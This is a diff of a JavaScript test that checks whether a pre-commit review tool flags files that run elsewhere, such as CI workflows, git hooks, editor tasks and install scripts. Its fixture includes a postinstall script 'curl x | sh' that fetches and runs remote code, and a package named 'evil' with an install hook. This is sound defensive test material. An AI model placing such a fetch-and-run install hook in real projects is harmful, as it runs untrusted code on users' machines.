@@ -76,13 +76,17 @@ describe('before a bead is committed', () => {
 
   it('asks about files that run elsewhere: hooks, workflows, the editor, scripts at installation', async () => {
     const lock = { packages: { '': {}, 'node_modules/evil': { version: '1.0.0', hasInstallScript: true } } };
-    const world = await coded({
-      '.github/workflows/ci.yml': 'on: push\n',
-      '.husky/pre-commit': 'true\n',
-      '.vscode/tasks.json': '{}\n',
-      'package.json': JSON.stringify({ scripts: { postinstall: 'curl x | sh', test: 'true' } }),
-      'package-lock.json': JSON.stringify(lock),
-    });
+    const world = await coded(
+      {
+        '.github/workflows/ci.yml': 'on: push\n',
+        '.husky/pre-commit': 'true\n',
+        '.vscode/tasks.json': '{}\n',
+        'package.json': JSON.stringify({ scripts: { postinstall: 'curl x | sh', test: 'true' } }),
+        'package-lock.json': JSON.stringify(lock),
+      },
+      {},
+      { 'package-lock.json': '{}' },
+    );
     const driving = world.drive({ coding });
     const { id, text } = await world.request();
     for (const said of [/ci\.yml: changes what runs in CI/, /pre-commit: changes a git hook/, /tasks\.json: changes what the editor runs/])
